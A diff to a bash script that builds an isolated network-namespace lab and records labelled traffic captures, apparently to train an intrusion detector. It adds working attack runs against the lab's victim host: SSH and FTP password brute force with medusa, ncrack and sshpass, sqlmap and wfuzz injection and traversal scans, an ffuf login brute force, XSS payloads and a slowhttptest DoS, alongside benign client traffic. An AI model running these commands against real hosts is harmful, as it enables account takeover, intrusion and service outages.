@@ -12,7 +12,7 @@
 # are removed on exit, whatever happens.
 #
 # Usage: sudo models/training/lab/lab.sh [--out DIR] [--only scenario,scenario] [--list]
-# All 68 scenarios: about 25 minutes (sum of the scenario bounds; less on an idle machine).
+# All 83 scenarios: about 35 minutes (sum of the scenario bounds; less on an idle machine).
 # Needs: iproute2 tcpdump nginx-light openssh-server dnsmasq-base vsftpd iperf3 curl wget dnsutils
 #        nmap hping3 slowhttptest hydra apache2-utils openssl (see models/training/lab/README.md)
 set -euo pipefail
@@ -31,7 +31,8 @@ while (($#)); do
 done
 
 if [[ $(id -u) -ne 0 ]]; then echo "lab: must run as root (network namespaces)" >&2; exit 1; fi
-for tool in ip tcpdump nginx /usr/sbin/sshd dnsmasq vsftpd iperf3 curl wget dig nmap hping3 slowhttptest hydra ab openssl; do
+for tool in ip tcpdump nginx /usr/sbin/sshd dnsmasq vsftpd iperf3 curl wget dig nmap hping3 slowhttptest hydra ab openssl \
+    sshpass medusa ncrack sqlmap wfuzz ffuf; do
   command -v "$tool" >/dev/null || { echo "lab: missing tool '$tool' (apt-get install it; see README)" >&2; exit 1; }
 done
 
@@ -121,6 +122,9 @@ http {
   }
 }
 EOF
+  # mktemp -d makes $WORK 0700, and nginx's workers run as nobody: without this every page was 403 Forbidden and
+  # every /app/ request 500 (try_files could not see the file), in every capture made before this line was added.
+  chmod 755 "$WORK"
   in_vic nginx -c "$WORK/nginx/nginx.conf"
 
   id "$LAB_USER" >/dev/null 2>&1 || useradd -m -s /bin/bash "$LAB_USER"
@@ -167,6 +171,12 @@ EOF
   in_vic iperf3 -s -B "$VIC_IP" >/dev/null 2>&1 &
   PIDS+=($!)
   sleep 1
+  # Fail fast if the web server cannot serve its pages (captures of error pages are not the traffic we mean).
+  local code
+  for url in "http://$VIC_IP/page3.html" "http://$VIC_IP/app/search?q=x" "https://$VIC_IP/index.html"; do
+    code="$(in_atk curl -sk -o /dev/null -w '%{http_code}' "$url" || true)"
+    if [[ "$code" != 200 ]]; then echo "lab: $url answered $code, not 200 (see $WORK/nginx/error.log)" >&2; exit 1; fi
+  done
 }
 
 # run_scenario NAME LABEL FAMILY COMMAND...: captures the command's traffic into NAME.pcap with ground truth.
@@ -532,6 +542,110 @@ scenario_benign_ftp_sessions() {
   done
 }
 
+# ---- issue 4, round 2: more brute-force flows (tools and loops that open a connection per try or per few tries,
+# where hydra reuses one connection for several), web attacks by other tools and over keep-alive connections
+# (sqlmap, wfuzz and ffuf payload lists, medusa's form module, curl sending several payloads per connection), one
+# more slow read, and benign scripted clients at machine speed (the kind of traffic the held-out
+# benign_web_keepalive is: its single form POSTs and /app/ GETs between wget keep-alive batches had no sibling) ----
+scenario_brute_force_ssh_medusa() { timeout 45 medusa -h "$VIC_IP" -u admin -P "$LAB_DIR/wordlist.txt" -M ssh -t 4; }
+scenario_brute_force_ssh_ncrack() { timeout 45 ncrack -T4 --user root -P "$LAB_DIR/wordlist.txt" "ssh://$VIC_IP:22"; }
+# One password per connection (NumberOfPasswordPrompts=1), four at a time: what a bash loop of sshpass makes. Each
+# failed login exits 255, which stops xargs, hence the `|| true` inside.
+scenario_brute_force_ssh_sshpass() {
+  head -n 60 "$LAB_DIR/wordlist.txt" | timeout 60 xargs -P 4 -I{} bash -c 'timeout 10 sshpass -p "$1" ssh \
+    -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 \
+    -o PreferredAuthentications=password -o ConnectTimeout=5 "$LAB_USER@$VIC_IP" true || true' _ {}
+}
+scenario_brute_force_ftp_medusa() { timeout 45 medusa -h "$VIC_IP" -u ftpuser -P "$LAB_DIR/wordlist.txt" -M ftp -t 4; }
+scenario_brute_force_ftp_ncrack() { timeout 45 ncrack -T4 --user admin -P "$LAB_DIR/wordlist.txt" "ftp://$VIC_IP:21"; }
+# One login per connection with curl, one after another.
+scenario_brute_force_ftp_curl() {
+  local n=0
+  while read -r word && (( n < 80 )); do
+    n=$((n + 1))
+    timeout 5 curl -s -o /dev/null "ftp://webadmin:$word@$VIC_IP/"
+  done <"$LAB_DIR/wordlist.txt"
+}
+# sqlmap's own test sequence against two parameters (none is injectable: the lab site is static), bounded.
+scenario_web_attack_sqlmap() {
+  timeout 60 sqlmap -u "http://$VIC_IP/app/item?id=1&cat=2" --batch --level 2 --risk 1 --threads 2 --timeout 5 \
+    --retries 0 --flush-session --disable-coloring --output-dir "$WORK/sqlmap"
+}
+# wfuzz over its SQL injection and traversal payload lists (libcurl: connections are reused).
+scenario_web_attack_wfuzz() {
+  timeout 45 wfuzz -t 4 -z file,/usr/share/wfuzz/wordlist/Injections/SQL.txt "http://$VIC_IP/app/item?id=FUZZ"
+  timeout 45 wfuzz -t 2 -z file,/usr/share/wfuzz/wordlist/Injections/Traversal.txt "http://$VIC_IP/app/view?file=FUZZ"
+}
+# ffuf: a login brute force over keep-alive connections (Go's HTTP client), two user names.
+scenario_web_attack_ffuf_login() {
+  for user in admin operator; do
+    timeout 40 ffuf -s -t 4 -w "$LAB_DIR/wordlist.txt" -X POST -d "username=$user&password=FUZZ&submit=Login" \
+      -H "Content-Type: application/x-www-form-urlencoded" -u "http://$VIC_IP/app/login" -mc 302
+  done
+}
+# medusa's web-form module: a form POST per try (every answer carries the deny signal, so all 96 are tried).
+scenario_web_attack_medusa_form() {
+  timeout 45 medusa -h "$VIC_IP" -u admin -P "$LAB_DIR/wordlist.txt" -M web-form -t 2 -m FORM:app/login \
+    -m DENY-SIGNAL:html -m "FORM-DATA:post?username=&password="
+}
+# XSS and traversal payloads, six per keep-alive connection (curl --next reuses it), as a hand-made script would.
+scenario_web_attack_xss_keepalive() {
+  local args=() k=0
+  while IFS= read -r payload; do
+    args+=(--next -s -o /dev/null -G --data-urlencode "q=$payload" "http://$VIC_IP/app/search")
+    k=$((k + 1))
+    if (( k % 6 == 0 )); then timeout 10 curl "${args[@]:1}"; args=(); fi
+  done < <(cat /usr/share/wfuzz/wordlist/Injections/XSS.txt /usr/share/wfuzz/wordlist/Injections/Traversal.txt)
+  if (( ${#args[@]} )); then timeout 10 curl "${args[@]:1}"; fi
+}
+scenario_slow_dos_slowread_page() {
+  timeout 45 slowhttptest -X -c 200 -r 80 -w 128 -y 256 -n 3 -z 32 -k 2 -l 25 -u "http://$VIC_IP/page20.html" -p 3
+}
+# A scripted client at machine speed: wget keep-alive batches of pages and /app/ pages, single curl GETs with query
+# strings and single form POSTs between them, no pauses.
+scenario_benign_web_scripted() {
+  for round in $(seq 1 100); do
+    a=$(( (round * 3) % 20 + 1 )); b=$(( (round * 11) % 20 + 1 ))
+    timeout 15 wget -q -O /dev/null "http://$VIC_IP/app/" "http://$VIC_IP/page$a.html" "http://$VIC_IP/app/news" "http://$VIC_IP/page$b.html"
+    case $(( round % 3 )) in
+      0) timeout 5 curl -s -o /dev/null -d "q=report+$round&format=csv&range=week" "http://$VIC_IP/app/export" ;;
+      1) timeout 5 curl -s -o /dev/null "http://$VIC_IP/app/item?id=$round&view=full" ;;
+      *) timeout 5 curl -s -o /dev/null -G --data-urlencode "search=invoice $round for customer" "http://$VIC_IP/app/search" ;;
+    esac
+    if (( round % 7 == 0 )); then timeout 5 curl -sk -o /dev/null "https://$VIC_IP/page$b.html"; fi
+  done
+}
+# An API client: keep-alive sessions of GETs and JSON POSTs on one connection (curl --next), a heartbeat POST on its
+# own connection every other round, short pauses.
+scenario_benign_api_client() {
+  for round in $(seq 1 80); do
+    timeout 10 curl -s -o /dev/null "http://$VIC_IP/app/api/status" \
+      --next -s -o /dev/null -H 'Content-Type: application/json' -d "{\"event\":\"sync\",\"n\":$round}" "http://$VIC_IP/app/api/events" \
+      --next -s -o /dev/null "http://$VIC_IP/app/api/items?page=$(( round % 5 ))"
+    if (( round % 2 == 0 )); then
+      timeout 5 curl -s -o /dev/null -H 'Content-Type: application/json' -d "{\"heartbeat\":$round,\"ok\":true}" "http://$VIC_IP/app/api/heartbeat"
+    fi
+    if (( round % 9 == 0 )); then timeout 5 curl -s -o /dev/null "http://$VIC_IP/page$(( round % 20 + 1 )).html"; fi
+    sleep "0.$(( round % 3 ))"
+  done
+}
+
+# Eight clients at once, a connection per request (pages, /app/ pages, 404s, HEAD, ranges, HTTPS, wget with two
+# pages on one connection): the busiest benign traffic of the lab. benign_web_parallel (four at a time) held out had
+# nothing as busy in training once the pages were real (measured: 269 of its 600 flows flagged held out).
+scenario_benign_web_parallel_wide() {
+  seq 1 480 | timeout 120 xargs -P 8 -I{} bash -c 'n={}; p=$(( n % 20 + 1 )); q=$(( (n * 7) % 20 + 1 ));
+    case $(( n % 8 )) in
+      0) curl -sk -o /dev/null "https://$VIC_IP/page$p.html" ;;
+      1) curl -s -o /dev/null "http://$VIC_IP/img/missing-$p.gif" ;;
+      2) curl -s -I -o /dev/null "http://$VIC_IP/page$q.html" ;;
+      3) curl -s -o /dev/null -r $(( n * 101 % 50000 ))-$(( n * 101 % 50000 + 30000 )) "http://$VIC_IP/big.bin" ;;
+      4) curl -s -o /dev/null "http://$VIC_IP/app/item?id=$n&ref=list" ;;
+      5) wget -q -O /dev/null "http://$VIC_IP/page$p.html" "http://$VIC_IP/page$q.html" ;;
+      *) curl -s -o /dev/null "http://$VIC_IP/page$p.html?session=$(( n % 9 ))" ;;
+    esac'
+}
+
 setup_network
 start_servers
 command -v sshpass >/dev/null || { echo "lab: missing tool 'sshpass'" >&2; exit 1; }
@@ -608,4 +722,19 @@ run_scenario benign_dns_client BENIGN benign atk scenario_benign_dns_client
 run_scenario benign_ssh_sessions BENIGN benign atk scenario_benign_ssh_sessions
 run_scenario benign_polling BENIGN benign atk scenario_benign_polling
 run_scenario benign_ftp_sessions BENIGN benign atk scenario_benign_ftp_sessions
+run_scenario brute_force_ssh_medusa SSH-Patator brute_force atk scenario_brute_force_ssh_medusa
+run_scenario brute_force_ssh_ncrack SSH-Patator brute_force atk scenario_brute_force_ssh_ncrack
+run_scenario brute_force_ssh_sshpass SSH-Patator brute_force atk scenario_brute_force_ssh_sshpass
+run_scenario brute_force_ftp_medusa FTP-Patator brute_force atk scenario_brute_force_ftp_medusa
+run_scenario brute_force_ftp_ncrack FTP-Patator brute_force atk scenario_brute_force_ftp_ncrack
+run_scenario brute_force_ftp_curl FTP-Patator brute_force atk scenario_brute_force_ftp_curl
+run_scenario web_attack_sqlmap 'Web Attack - SQL Injection' web_attack atk scenario_web_attack_sqlmap
+run_scenario web_attack_wfuzz 'Web Attack - SQL Injection' web_attack atk scenario_web_attack_wfuzz
+run_scenario web_attack_ffuf_login 'Web Attack - Brute Force' web_attack atk scenario_web_attack_ffuf_login
+run_scenario web_attack_medusa_form 'Web Attack - Brute Force' web_attack atk scenario_web_attack_medusa_form
+run_scenario web_attack_xss_keepalive 'Web Attack - XSS' web_attack atk scenario_web_attack_xss_keepalive
+run_scenario slow_dos_slowread_page 'DoS Slowhttptest' slow_dos atk scenario_slow_dos_slowread_page
+run_scenario benign_web_scripted BENIGN benign atk scenario_benign_web_scripted
+run_scenario benign_api_client BENIGN benign atk scenario_benign_api_client
+run_scenario benign_web_parallel_wide BENIGN benign atk scenario_benign_web_parallel_wide
 log "done: captures and ground truth in $OUT_DIR"
